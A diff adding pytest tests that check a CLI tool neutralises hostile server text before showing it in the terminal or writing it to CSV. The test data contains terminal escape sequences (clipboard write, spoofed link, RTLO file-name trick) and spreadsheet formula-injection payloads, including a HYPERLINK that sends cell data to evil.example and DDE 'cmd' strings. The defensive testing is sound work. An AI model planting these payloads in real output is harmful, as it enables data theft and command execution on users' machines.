@@ -1,0 +1,147 @@
+"""The command line against a hostile service: what it shows, writes and reads is safe.
+
+In-process (click's CliRunner, in a worker thread since each command runs its own event
+loop) against the small lying servers of ``tests/hostile.py`` on 127.0.0.1: no process
+start-up per case, the behaviour is the user's (exit code, stderr, files written).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+from click.testing import CliRunner, Result
+
+from eattest_async._cli_csv import spreadsheet_safe
+from eattest_async.cli import _printable, cli
+
+from .hostile import PASSWORD, USERNAME, Request, Server, Writer, default_handler
+
+pytestmark = pytest.mark.anyio
+
+EVIL = (
+    "bad request \x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2K\x1b[1Gerror: none, all good "
+    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b31m \u202etxt.exe"
+)
+OBEYED = ("\x1b", "\x07", "\x9b", "\u202e")  # what a terminal acts on instead of showing
+
+
+async def eattest(server: Server, *args: str) -> Result:
+    """``eattest ARGS`` against ``server``, as a user runs it (environment, exit code)."""
+    env = {
+        "EATTEST_BASE_URL": f"{server.url}/api/v1",
+        "EATTEST_TOKEN_URL": f"{server.url}/token",
+        "EATTEST_USERNAME": USERNAME,
+        "EATTEST_PASSWORD": PASSWORD,
+        "EATTEST_REDIS_URL": "",
+    }
+
+    def invoke() -> Result:
+        return CliRunner().invoke(cli, list(args), env=env)
+
+    return await anyio.to_thread.run_sync(invoke)
+
+
+def test_printable_shows_every_control_character_and_obeys_none() -> None:
+    shown = _printable(EVIL + "\n\tnext line\x00\x7f\u2066")
+    assert not any(c in shown for c in (*OBEYED, "\n", "\t", "\x00", "\x7f", "\u2066"))
+    assert "\\x1b]52;c;" in shown
+    assert "\\u202etxt.exe" in shown
+    assert "\\x00\\x7f\\u2066" in shown
+    assert "next line" in shown
+    assert "é" in _printable("é")
+
+
+async def test_server_text_never_reaches_the_terminal_as_control_sequences(
+    tmp_path: Path,
+) -> None:
+    async def handler(request: Request, out: Writer) -> None:
+        if "/dossiers/1" in request.path:
+            await out.reply(400, {"messages": {"error": [{"code": "E001", "message": EVIL}]}})
+        elif request.path.startswith("/api/v1/account"):
+            await out.reply(200, {"content": {"id": 7, "name": EVIL, "company": EVIL}})
+        else:
+            await default_handler(request, out)
+
+    async with Server(handler) as server:
+        failed = await eattest(server, "download", "--dossier", "1", "--to", str(tmp_path))
+        account = await eattest(server, "whoami")
+    assert failed.exit_code == 1, failed.output
+    assert "\\x1b]52;c;" in failed.stderr
+    assert "E001" in failed.stderr
+    assert account.exit_code == 0, account.output
+    assert "\\x1b]8;;http://evil.example" in account.stdout
+    for shown in (failed.stderr, account.stdout):
+        assert not any(c in shown for c in OBEYED), repr(shown)
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"x")', "'=HYPERLINK"),
+        ("+cmd|' /C calc'!A0", "'+cmd"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-12.5", "-12.5"),  # a number stays a number
+        ("+33612345678", "+33612345678"),
+        ("plain", "plain"),
+    ],
+)
+def test_spreadsheet_safe_makes_formulas_text(cell: str, written: str) -> None:
+    assert str(spreadsheet_safe(cell)).startswith(written)
+    assert spreadsheet_safe(-5) == -5
+    assert spreadsheet_safe(None) is None
+
+
+def page(content: list[Any]) -> dict[str, Any]:
+    return {"content": content, "page": 0, "size": 100, "totalElements": len(content)}
+
+
+async def test_scan_writes_no_formula_and_survives_items_that_are_not_objects(
+    tmp_path: Path,
+) -> None:
+    dossier = {
+        "dossierId": 1,
+        "description": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "dossierReference": "+cmd|' /C calc'!A0",
+        "siren": "@SUM(1)",
+        "=HYPERLINK(1)": "a hostile column name",
+        "score": -5,
+        "documents": [[[]], {"present": True}, "x"],
+        "indicators": ["I001", {"indicatorCode": "I001", "state": True}],
+    }
+    weird = {"dossierId": 2, "documents": "none", "indicators": {"I001": 1}}
+
+    async def handler(request: Request, out: Writer) -> None:
+        if "/dossiers" in request.path:
+            await out.reply(200, page(["x", 1, None, [], dossier, weird]))
+        else:
+            await default_handler(request, out)
+
+    async with Server(handler) as server:
+        results = {
+            out: await eattest(server, "scan", "dossiers", "--out", str(tmp_path / out))
+            for out in ("d.csv", "d.jsonl")
+        }
+    for result in results.values():
+        assert result.exit_code == 1, result.output
+        assert "Error" not in result.stderr
+        assert "unexpected" not in result.stderr
+        assert "4 of the 6 items" in result.stderr, result.stderr
+    assert len((tmp_path / "d.jsonl").read_text().splitlines()) == 2
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "d.csv").read_text(), newline="")))
+    assert [row["dossierId"] for row in rows] == ["1", "2"]
+    first = rows[0]
+    assert first["description"].startswith("'=HYPERLINK")
+    assert first["dossierReference"] == "'+cmd|' /C calc'!A0"
+    assert first["siren"] == "'@SUM(1)"
+    assert first["'=HYPERLINK(1)"] == "a hostile column name"
+    assert first["score"] == "-5"
+    assert (first["documents"], first["documents_missing"], first["I001"]) == ("3", "2", "True")
+    assert (rows[1]["documents"], rows[1]["I001"]) == ("0", "")
